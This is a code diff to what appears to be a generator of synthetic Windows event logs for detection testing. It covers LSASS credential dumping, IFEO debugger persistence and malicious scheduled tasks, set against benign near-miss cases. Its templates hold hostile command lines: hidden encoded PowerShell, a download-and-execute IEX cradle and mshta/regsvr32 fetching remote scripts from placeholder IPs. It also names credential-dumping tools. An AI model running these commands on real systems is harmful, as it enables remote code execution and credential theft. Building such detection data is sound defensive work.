@@ -47,6 +47,7 @@ _DUMPERS = f"«{_OWN}¦C:\\Tools\\«procdump64¦procdump¦nanodump¦mimikatz¦du
 _FULL = "«0x1010¦0x1038¦0x1410¦0x1438¦0x143a¦0x1fffff¦0x1f1fff¦0x1f0fff¦0x101410¦0x1f3fff¦0x1410»"
 _LEGIT = "«C:\\Program Files\\‹Word›\\‹name›.exe¦C:\\Windows\\System32\\«svchost¦services¦msiexec¦taskhostw».exe¦C:\\Program Files (x86)\\‹Word› ‹Word›\\‹name›.exe»"
 _PAYLOAD = "«powershell.exe -nop -w hidden -enc ‹hash›‹hash›¦cmd.exe /c ‹dir›\\‹name›.bat¦rundll32.exe C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\Users\\Public\\‹name›.exe¦C:\\Users\\‹user›\\AppData\\Roaming\\‹name›.exe¦mshta.exe http://‹ip›/‹name›.hta¦wscript.exe C:\\ProgramData\\‹name›.vbs¦regsvr32.exe /s /u /i:http://‹ip›/‹name›.sct scrobj.dll»"
+_TASK = "\\«‹name›¦‹Word›Update¦Microsoft\\Windows\\‹Word›\\‹name›»"
 _USER_HIVE = "HKU\\S-1-5-21-1‹pid›-‹pid›-‹pid›-1001"
 _GUIDS = "«%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}¦%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}¦%%7688 {89e95b76-444d-4c62-991a-0facbeda640c} {19195a5b-6da0-11d0-afd3-00c04fd930c9}»"
 _DOMAIN_OBJECT = "«%{19195a5b-6da0-11d0-afd3-00c04fd930c9}¦domainDNS»"
@@ -148,10 +149,10 @@ _ATTACKS: tuple[tuple[str, str, Maker], ...] = (
             _DUMPERS,
             _LSASS,
             _FULL,
-            "«C:\\Windows\\System32\\dbgcore.DLL¦C:\\Windows\\System32\\dbghelp.dll¦UNKNOWN(00000‹pid›)¦»",
+            "«C:\\Windows\\System32\\dbgcore.DLL¦C:\\Windows\\System32\\dbghelp.dll¦UNKNOWN(‹hex›)¦»",
         ),
     ),
-    ("lsass-access-odd-image", "T1003.001", access(_OWN, _LSASS, _FULL, "UNKNOWN(0000‹pid›)")),
+    ("lsass-access-odd-image", "T1003.001", access(_OWN, _LSASS, _FULL, "UNKNOWN(‹hex›)")),
     (
         "lsass-access-script",
         "T1003.001",
@@ -159,7 +160,7 @@ _ATTACKS: tuple[tuple[str, str, Maker], ...] = (
             _SHELLS,
             _LSASS,
             _FULL,
-            "«C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\mscorlib\\mscorlib.ni.dll¦UNKNOWN(0000‹pid›)¦C:\\Windows\\System32\\comsvcs.dll»",
+            "«C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\mscorlib\\mscorlib.ni.dll¦UNKNOWN(‹hex›)¦C:\\Windows\\System32\\comsvcs.dll»",
         ),
     ),
     ("lsass-handle-4656", "T1003.001", handled(4656, "Process", _LSASS_DEVICE, _DUMPERS, _FULL)),
@@ -272,7 +273,7 @@ _ATTACKS: tuple[tuple[str, str, Maker], ...] = (
             _OWN,
             f"«{_S32}«notepad¦svchost¦RuntimeBroker¦spoolsv».exe¦C:\\Windows\\explorer.exe»",
             "«0x1fffff¦0x147a¦0x143a¦0x2a»",
-            "UNKNOWN(0000‹pid›)",
+            "UNKNOWN(‹hex›)",
         ),
     ),
     (
@@ -320,8 +321,8 @@ _ATTACKS: tuple[tuple[str, str, Maker], ...] = (
         "T1546.012",
         set_value(
             f"«{_SHELLS}¦{_S32}reg.exe»",
-            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\«‹name›¦utilman¦notepad».exe\\«Debugger¦GlobalFlag»",
-            "«C:\\Windows\\System32\\cmd.exe¦C:\\Temp\\‹name›.exe¦DWORD (0x00000200)»",
+            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\«‹name›¦notepad¦chrome».exe\\Debugger",
+            "«C:\\Windows\\System32\\cmd.exe¦C:\\Temp\\‹name›.exe¦C:\\Users\\Public\\‹name›.exe -z»",
         ),
     ),
     (
@@ -411,12 +412,35 @@ _ATTACKS: tuple[tuple[str, str, Maker], ...] = (
         ),
     ),
     (
-        "task-payload",
+        "task-shell",
         "T1053.005",
         task(
-            "\\«‹name›¦‹Word›Update¦Microsoft\\Windows\\‹Word›\\‹name›»",
-            "«powershell.exe¦cmd.exe¦C:\\Users\\Public\\‹name›.exe¦mshta.exe¦rundll32.exe¦wscript.exe¦C:\\ProgramData\\‹name›.exe»",
-            "«-nop -w hidden -enc ‹hash›¦/c ‹dir›\\‹name›.bat¦http://‹ip›/‹name›.hta¦C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\ProgramData\\‹name›.vbs»",
+            _TASK,
+            "«powershell.exe¦C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe§-nop -w hidden -enc ‹hash›‹hash›¦powershell§-ep bypass -file C:\\Users\\Public\\‹name›.ps1¦powershell.exe§-c IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›')»",
+        ),
+    ),
+    (
+        "task-batch",
+        "T1053.005",
+        task(
+            _TASK,
+            "«cmd.exe§/c ‹dir›\\‹name›.bat¦cmd§/c start /b C:\\ProgramData\\‹name›.exe¦C:\\Windows\\System32\\cmd.exe§/c powershell -w hidden -f ‹dir›\\‹name›.ps1»",
+        ),
+    ),
+    (
+        "task-proxy",
+        "T1053.005",
+        task(
+            _TASK,
+            "«mshta.exe§http://‹ip›/‹name›.hta¦rundll32.exe§C:\\Users\\Public\\‹name›.dll,‹Word›¦regsvr32.exe§/s /u /i:http://‹ip›/‹name›.sct scrobj.dll¦wscript.exe§//b C:\\ProgramData\\‹name›.vbs»",
+        ),
+    ),
+    (
+        "task-binary",
+        "T1053.005",
+        task(
+            _TASK,
+            "«C:\\Users\\Public¦C:\\ProgramData¦C:\\Windows\\Temp¦C:\\Users\\‹user›\\AppData\\«Roaming¦Local\\Temp»»\\‹name›.exe§",
         ),
     ),
     (
@@ -653,8 +677,18 @@ _NEAR_MISSES: tuple[tuple[str, Maker], ...] = (
         "task-program",
         task(
             "\\«‹Word›\\‹Word›Update¦‹Word› Nightly¦Microsoft\\Office\\Office Automatic Updates 2.0»",
-            "C:\\Program Files«¦ (x86)»\\«‹Word›\\‹name›.exe¦Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe»",
-            "«/quiet¦--update¦/update SCHEDULEDTASK displaylevel=False¦»",
+            "C:\\Program Files«¦ (x86)»\\«‹Word›\\‹name›.exe¦Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe»§«/quiet¦--update¦/update SCHEDULEDTASK displaylevel=False¦»",
+        ),
+    ),
+    (
+        "tampered-browser",
+        lambda rng, scene: tampering(
+            rng,
+            scene,
+            draw(
+                rng,
+                "C:\\Program Files«¦ (x86)»\\«Google\\Chrome\\Application\\chrome¦Microsoft\\Edge\\Application\\msedge¦Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate¦‹Word›\\‹Word›».exe",
+            ),
         ),
     ),
     ("wmi-scm", _subscription_legit),
